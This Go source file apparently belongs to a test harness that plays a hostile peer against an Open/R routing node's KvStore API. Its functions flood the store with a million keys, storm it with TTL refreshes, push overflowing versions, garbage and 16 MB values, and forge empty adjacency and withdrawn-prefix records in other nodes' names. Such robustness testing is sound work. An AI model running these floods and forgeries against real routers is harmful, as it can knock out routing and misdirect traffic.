package hostile

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"math"
	"net"
	"net/netip"
	"strconv"
	"sync"
	"time"

	"openr/thrift/compact"
	"openr/thrift/gen/kvstore"
	"openr/thrift/gen/types"
	"openr/thrift/rpc"
)

// keyTTL is how long the keys of a Neighbour live, in milliseconds: it leaves nothing behind.
const keyTTL = 4000

// target is the victim's control port, at its link-local address.
func (n *Neighbour) target() string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return net.JoinHostPort(n.victim.addr.WithZone(n.o.Interface).String(), strconv.Itoa(n.o.Port))
}

// dial connects to the victim's control API over Rocket.
func (n *Neighbour) dial(ctx context.Context) (conn *rpc.Conn, err error) {
	target := n.target()
	err = n.o.Inside(func() error {
		conn, err = rpc.Dial(ctx, target, rpc.DialOptions{MaxFrame: math.MaxInt32})
		return err
	})
	return conn, err
}

// writer hands sets to the victim's store, several at a time.
type writer struct {
	n     *Neighbour
	conns []*rpc.Conn
	turns chan *kvstore.KvStoreServiceClient
	all   sync.WaitGroup
}

func (n *Neighbour) writer(ctx context.Context, parallel int) (*writer, error) {
	w := &writer{n: n, turns: make(chan *kvstore.KvStoreServiceClient, parallel)}
	for i := range parallel {
		if i%8 == 0 {
			conn, err := n.dial(ctx)
			if err != nil {
				w.close()
				return nil, err
			}
			w.conns = append(w.conns, conn)
		}
		w.turns <- kvstore.NewKvStoreServiceClient(w.conns[len(w.conns)-1].Client())
	}
	return w, nil
}

// close waits for all answers.
func (w *writer) close() {
	w.all.Wait()
	for _, c := range w.conns {
		c.Close()
	}
}

// set hands over values when one of the earlier sets has been answered. That they are refused is to be expected.
func (w *writer) set(ctx context.Context, vals kvstore.KeyVals) {
	select {
	case client := <-w.turns:
		w.all.Go(func() {
			_ = client.SetKvStoreKeyVals(ctx, &kvstore.KeySetParams{KeyVals: vals, NodeIds: []string{w.n.o.Node}}, w.n.o.Area)
			w.turns <- client
		})
	case <-ctx.Done():
	}
}

// awaited returns when the victim takes a new key, which it may not do for a while after a flood.
func (w *writer) awaited(ctx context.Context) error {
	client := kvstore.NewKvStoreServiceClient(w.conns[0].Client())
	vals := kvstore.KeyVals{fmt.Sprintf("knock:%d", time.Now().UnixNano()): value(w.n.o.Node, 1, []byte("knock"))}
	for {
		r, err := client.SetKvStoreKeyValues(ctx, &kvstore.KeySetParams{KeyVals: vals, NodeIds: []string{w.n.o.Node}}, w.n.o.Area)
		if err == nil && len(r.NoMergeReasons) == 0 {
			return nil
		}
		if wait(ctx, 100*time.Millisecond); ctx.Err() != nil {
			return fmt.Errorf("the victim takes no values: %w", errors.Join(err, ctx.Err()))
		}
	}
}

// write hands over so many sets, parallel at a time, and waits for the answers.
func (n *Neighbour) write(ctx context.Context, sets, parallel int, set func(i int) kvstore.KeyVals) error {
	w, err := n.writer(ctx, parallel)
	if err != nil {
		return err
	}
	defer w.close()
	if err := w.awaited(ctx); err != nil {
		return err
	}
	for i := range sets {
		w.set(ctx, set(i))
	}
	return nil
}

func value(originator string, version int64, data []byte) *kvstore.Value {
	return &kvstore.Value{Version: version, OriginatorId: originator, Value: data, TTL: keyTTL}
}

func (n *Neighbour) millionKeys(ctx context.Context) error {
	return n.manyKeys(ctx, "evil:", func(int) string { return n.o.Node })
}

func (n *Neighbour) millionOriginators(ctx context.Context) error {
	return n.manyKeys(ctx, "legion:", func(i int) string { return fmt.Sprintf("legion%d", i) })
}

func (n *Neighbour) manyKeys(ctx context.Context, prefix string, originator func(i int) string) error {
	const batch = 5000
	data := []byte("a million lemmings")
	return n.write(ctx, n.dose(1_000_000/batch), 32, func(i int) kvstore.KeyVals {
		vals := make(kvstore.KeyVals, batch)
		for k := i * batch; k < (i+1)*batch; k++ {
			vals[fmt.Sprintf("%s%07d", prefix, k)] = value(originator(k), 1, data)
		}
		return vals
	})
}

// ttlStorm makes keys of a millisecond, keys that it refreshes all the time, and refreshes with a millisecond of other
// nodes' keys.
func (n *Neighbour) ttlStorm(ctx context.Context) error {
	theirs, err := n.keysOf(ctx, n.o.Other)
	if err != nil {
		return err
	}
	return n.write(ctx, n.dose(400), 4, func(i int) kvstore.KeyVals {
		vals := kvstore.KeyVals{}
		for k := range 20 {
			brief, kept := value(n.o.Node, int64(i+1), []byte("brief")), value(n.o.Node, 1, []byte("kept"))
			brief.TTL = 1
			if kept.TtlVersion = int64(i); i > 0 {
				kept.Value = nil
			}
			vals[fmt.Sprintf("brief:%d", k)], vals[fmt.Sprintf("kept:%d", k)] = brief, kept
		}
		for key, v := range theirs {
			vals[key] = &kvstore.Value{Version: v.Version, OriginatorId: v.OriginatorId, TTL: 1, TtlVersion: v.TtlVersion + int64(i) + 1}
		}
		return vals
	})
}

// keysOf returns what the victim's store has of a node's adjacencies and prefixes.
func (n *Neighbour) keysOf(ctx context.Context, node string) (kvstore.KeyVals, error) {
	conn, err := n.dial(ctx)
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	filter := kvstore.NewKeyDumpParams()
	filter.Keys = []string{"adj:" + node + "$", "prefix:" + node + ":"}
	p, err := kvstore.NewKvStoreServiceClient(conn.Client()).GetKvStoreKeyValsFilteredArea(ctx, filter, n.o.Area)
	if err != nil {
		return nil, err
	}
	return p.KeyVals, nil
}

func (n *Neighbour) pingPong(ctx context.Context) error {
	return n.write(ctx, n.dose(2000), 4, func(i int) kvstore.KeyVals {
		return kvstore.KeyVals{"ping:pong": value([]string{n.o.Node, "pong"}[i%2], int64(i+1), []byte(strconv.Itoa(i)))}
	})
}

func (n *Neighbour) lastVersion(ctx context.Context) error {
	theirs, err := n.keysOf(ctx, n.o.Other)
	if err != nil {
		return err
	}
	own, err := n.keysOf(ctx, n.Victim())
	if err != nil {
		return err
	}
	versions := []int64{math.MaxInt64, 1<<62 + 1, 1 << 62, 1<<62 - 1, 1 << 61}
	return n.write(ctx, 2*len(versions), 1, func(i int) kvstore.KeyVals {
		version := versions[i/2]
		vals := kvstore.KeyVals{fmt.Sprintf("last:%d", i): value(n.o.Node, version, []byte("last"))}
		for _, keys := range []kvstore.KeyVals{theirs, own} {
			for key, v := range keys {
				if i%2 == 0 {
					vals[key] = value("zzz", version, []byte("zzz"))
				} else {
					vals[key] = &kvstore.Value{Version: v.Version, OriginatorId: v.OriginatorId, TTL: keyTTL, TtlVersion: version}
				}
			}
		}
		return vals
	})
}

// othersKeys puts an empty adjacency database and withdrawn prefixes in the place of the other node's and the victim's: once
// in its own name, and once in theirs.
func (n *Neighbour) othersKeys(ctx context.Context) error {
	var all []kvstore.KeyVals
	for _, node := range []string{n.o.Other, n.Victim()} {
		keys, err := n.keysOf(ctx, node)
		if err != nil {
			return err
		}
		for _, originator := range []string{n.o.Node, node} {
			forged := kvstore.KeyVals{}
			for key, v := range keys {
				data := compact.Marshal(&types.AdjacencyDatabase{ThisNodeName: node, Area: n.o.Area})
				if key != "adj:"+node {
					data = compact.Marshal(&types.PrefixDatabase{ThisNodeName: node, DeletePrefix: true})
				}
				forged[key] = value(originator, v.Version+1, data)
			}
			all = append(all, forged)
		}
	}
	return n.write(ctx, len(all), 1, func(i int) kvstore.KeyVals { return all[i] })
}

func (n *Neighbour) garbageValues(ctx context.Context) error {
	prefix := compact.Marshal(&types.PrefixDatabase{ThisNodeName: n.o.Node, PrefixEntries: []*types.PrefixEntry{types.NewPrefixEntry()}})
	return n.write(ctx, n.dose(50), 4, func(i int) kvstore.KeyVals {
		vals := kvstore.KeyVals{}
		for k := range 20 {
			noise := bytes.Repeat([]byte{byte(i*31 + k), byte(i + k*17), 0xff}, k)
			name := fmt.Sprintf("%s%d", n.o.Node, k)
			vals["adj:"+name] = value(name, int64(i+1), noise)
			vals["prefix:"+name+":[fd00:bad::/64]"] = value(name, int64(i+1), append(prefix[:k%len(prefix):k%len(prefix)], noise...))
			vals[fmt.Sprintf("prefix:%s:[not a prefix/%d]", name, k)] = value(name, int64(i+1), prefix)
		}
		return vals
	})
}

func (n *Neighbour) bigValues(ctx context.Context) error {
	data := make([]byte, 16<<20)
	return n.write(ctx, n.dose(8), 4, func(i int) kvstore.KeyVals {
		return kvstore.KeyVals{fmt.Sprintf("big:%d", i): value(n.o.Node, 1, data)}
	})
}

// answering is a store of which only the answers to full synchronizations count. What else it is asked makes it panic, which
// the server turns into an exception.
type answering struct {
	kvstore.KvStoreService
	answer *kvstore.Publication
}

func (a answering) GetKvStoreKeyValsFilteredArea(context.Context, *kvstore.KeyDumpParams, string) (*kvstore.Publication, error) {
	return a.answer, nil
}

func (a answering) SetKvStoreKeyVals(context.Context, *kvstore.KeySetParams, string) error {
	return nil
}

// asStore makes an adjacency in a name of its own with what f plays as the store behind it, and ends both when the victim
// has had to do with it for a time. f is called for each connection of the victim.
func (n *Neighbour) asStore(ctx context.Context, name string, lasts time.Duration, f func(context.Context, net.Conn)) error {
	var l net.Listener
	if err := n.o.Inside(func() (err error) { l, err = net.Listen("tcp6", "[::]:0"); return err }); err != nil {
		return err
	}
	life, stop := context.WithCancel(ctx)
	var all sync.WaitGroup
	defer all.Wait()
	defer stop()
	defer l.Close()
	came := make(chan struct{}, 1)
	all.Go(func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			select {
			case came <- struct{}{}:
			default:
			}
			all.Go(func() {
				defer conn.Close()
				defer context.AfterFunc(life, func() { conn.Close() })()
				f(life, conn)
			})
		}
	})
	n.mu.Lock()
	n.store = int(netip.MustParseAddrPort(l.Addr().String()).Port())
	n.mu.Unlock()
	defer n.Leave()
	if err := n.adjoin(ctx, name); err != nil {
		return err
	}
	select {
	case <-came:
	case <-ctx.Done():
		return ctx.Err()
	}
	select {
	case <-time.After(lasts):
	case <-ctx.Done():
	}
	return ctx.Err()
}
